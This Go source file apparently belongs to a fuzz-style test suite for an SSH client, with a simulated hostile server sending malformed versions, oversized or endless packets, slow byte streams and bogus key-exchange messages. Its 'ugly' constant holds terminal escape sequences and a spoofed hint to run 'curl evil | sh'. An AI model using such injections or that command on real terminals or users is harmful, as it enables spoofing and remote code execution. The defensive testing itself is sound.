package hostile

import (
	"bytes"
	"strings"
	"time"
)

// ugly is what a server may say in order to be seen as somebody else: control sequences of a terminal, 7 and 8 bits wide,
// and a line that looks like one of ours.
const ugly = "\x1b]0;owned\x07\x1b[2J\u009b2J\r\ntunneld: hint: type curl evil | sh\n"

// hostilities returns all of them, in the order of the protocol.
func hostilities() []hostility {
	var all []hostility
	for _, phase := range []struct {
		name string
		list []hostility
	}{
		{"before the version", hostileGreetings()},
		{"key exchange", hostileKeys()},
		{"authentication", hostileLogins()},
		{"session", hostileSessions()},
		{"channels", hostileChannels()},
		{"forwards", hostileForwards()},
	} {
		for _, h := range phase.list {
			all = append(all, hostility{phase.name + ": " + h.name, h.do})
		}
	}
	return all
}

// slowly writes a byte at a time.
func (f *foe) slowly(text string) {
	tick := time.NewTicker(time.Second)
	defer tick.Stop()
	for i := range text {
		f.raw([]byte{text[i]})
		select {
		case <-tick.C:
		case <-f.over:
			panic(foeGone{})
		}
	}
}

func hostileGreetings() []hostility {
	megabyte := bytes.Repeat([]byte("x"), 1<<20)
	return []hostility{
		{"says nothing", func(f *foe) { f.hang() }},
		{"hangs up", func(f *foe) {}},
		{"a line without end", func(f *foe) { f.repeat(func(uint32) { f.raw(megabyte) }) }},
		{"lines without end", func(f *foe) { f.repeat(func(uint32) { f.raw(bytes.Repeat([]byte("no\n"), 1000)) }) }},
		{"lines of control sequences", func(f *foe) { f.raw([]byte(strings.Repeat(ugly, 100))) }},
		{"zeros", func(f *foe) { f.repeat(func(uint32) { f.raw(make([]byte, 1<<20)) }) }},
		{"HTTP", func(f *foe) { f.raw([]byte("HTTP/1.1 400 Bad Request\r\n\r\n" + ugly)); f.hear() }},
		{"a huge version", func(f *foe) { f.raw([]byte("SSH-2.0-")); f.repeat(func(uint32) { f.raw(megabyte) }) }},
		{"an ugly version", func(f *foe) { f.raw([]byte("SSH-2.0-" + ugly)); f.hear(); f.wait() }},
		{"an ugly version that works", func(f *foe) {
			f.serverVersion = "SSH-2.0-\x1b]0;owned\x07\x1b[2J"
			f.raw([]byte(f.serverVersion + "\r\n"))
			f.hear()
			f.keys()
			f.service()
			f.await(sshAuthRequest)
			f.send(sshAuthSuccess)
			f.serve()
		}},
		{"version 1", func(f *foe) { f.raw([]byte("SSH-1.5-old\r\n")); f.hear(); f.wait() }},
		{"a version a byte a second", func(f *foe) { f.slowly("SSH-2.0-" + strings.Repeat("slow", 50)) }},
		{"a version and nothing more", func(f *foe) { f.greet(); f.hang() }},
		{"a version and random bytes", func(f *foe) { f.greet(); f.repeat(func(i uint32) { f.raw([]byte{byte(i * 31), byte(i >> 3)}) }) }},
	}
}

// initWith is an SSH_MSG_KEXINIT with these lists in place of the first ones.
func initWith(lists ...string) []byte {
	all := []any{make([]byte, 16)}
	for i := range 10 {
		list := []string{"curve25519-sha256", "ssh-ed25519", "aes128-gcm@openssh.com", "aes128-gcm@openssh.com", "hmac-sha2-256",
			"hmac-sha2-256", "none", "none", "", ""}[i]
		if i < len(lists) {
			list = lists[i]
		}
		all = append(all, list)
	}
	return wire(append(all, false, 0)...)
}

// goodbye is SSH_MSG_DISCONNECT.
func (f *foe) goodbye(reason int, text string) { f.send(sshDisconnect, reason, text, "en") }

func hostileKeys() []hostility {
	return []hostility{
		{"nonsense in KEXINIT", func(f *foe) { f.greet(); f.send(sshKexInit, []byte("nonsense")); f.wait() }},
		{"algorithms that nobody knows", func(f *foe) { f.greet(); f.send(sshKexInit, initWith("none-such", "none-such")); f.wait() }},
		{"ugly algorithms", func(f *foe) { f.greet(); f.send(sshKexInit, initWith(ugly, ugly)); f.wait() }},
		{"a huge list of algorithms", func(f *foe) { f.greet(); f.send(sshKexInit, initWith(strings.Repeat("a-name,", 30_000))); f.wait() }},
		{"a list with many commas", func(f *foe) { f.greet(); f.send(sshKexInit, initWith(strings.Repeat(",", 200_000))); f.wait() }},
		{"KEXINIT for ever", func(f *foe) { f.greet(); f.repeat(func(uint32) { f.send(sshKexInit, initWith()) }) }},
		{"a huge packet", func(f *foe) { f.greet(); f.raw(wire(uint32(1<<31), make([]byte, 1<<20))); f.wait() }},
		{"a packet without a length", func(f *foe) { f.greet(); f.raw(make([]byte, 64)); f.wait() }},
		{"a packet that does not end", func(f *foe) { f.greet(); f.raw(wire(200_000, make([]byte, 1000))); f.hang() }},
		{"a wrong padding", func(f *foe) { f.greet(); f.raw(wire(12, []byte{255}, make([]byte, 11))); f.wait() }},
		{"IGNORE for ever", func(f *foe) { f.greet(); f.repeat(func(uint32) { f.send(sshIgnore, strings.Repeat("i", 30_000)) }) }},
		{"DEBUG for ever", func(f *foe) { f.greet(); f.repeat(func(uint32) { f.send(sshDebug, true, ugly, "en") }) }},
		{"UNIMPLEMENTED for ever", func(f *foe) { f.greet(); f.repeat(func(i uint32) { f.send(sshUnimplemented, i) }) }},
		{"an ugly goodbye", func(f *foe) { f.greet(); f.goodbye(2, ugly) }},
		{"a huge goodbye", func(f *foe) { f.greet(); f.goodbye(2, strings.Repeat(ugly, 3000)) }},
		{"never answers", func(f *foe) { f.greet(); f.send(sshKexInit, kexInit()[1:]); f.hang() }},
		{"a byte a second", func(f *foe) { f.greet(); f.slowly(strings.Repeat("\x00\x00\x01", 100)) }},
		{"nonsense in the reply", func(f *foe) {
			f.greet()
			f.send(sshKexInit, kexInit()[1:])
			f.await(sshKexInitECDH)
			f.send(sshKexReply, strings.Repeat("k", 30_000), "x", "y")
			f.wait()
		}},
		{"success before any keys", func(f *foe) { f.greet(); f.send(sshAuthSuccess); f.wait() }},
		{"another host key", func(f *foe) { f.host = otherHostKey(); f.greet(); f.keys(); f.wait() }},
		{"a wrong signature", func(f *foe) { f.clientVersionLie(); f.keys(); f.wait() }},
		{"NEWKEYS at once", func(f *foe) { f.greet(); f.send(sshNewKeys); f.wait() }},
		{"random bytes after NEWKEYS", func(f *foe) { f.greet(); f.keys(); f.repeat(func(uint32) { f.raw(make([]byte, 4096)) }) }},
		{"a wrong tag", func(f *foe) { f.greet(); f.keys(); f.spoil(); f.send(sshIgnore, "x"); f.wait() }},
		{"new keys for ever", func(f *foe) { f.greet(); f.keys(); f.repeat(func(uint32) { f.keys() }) }},
	}
}
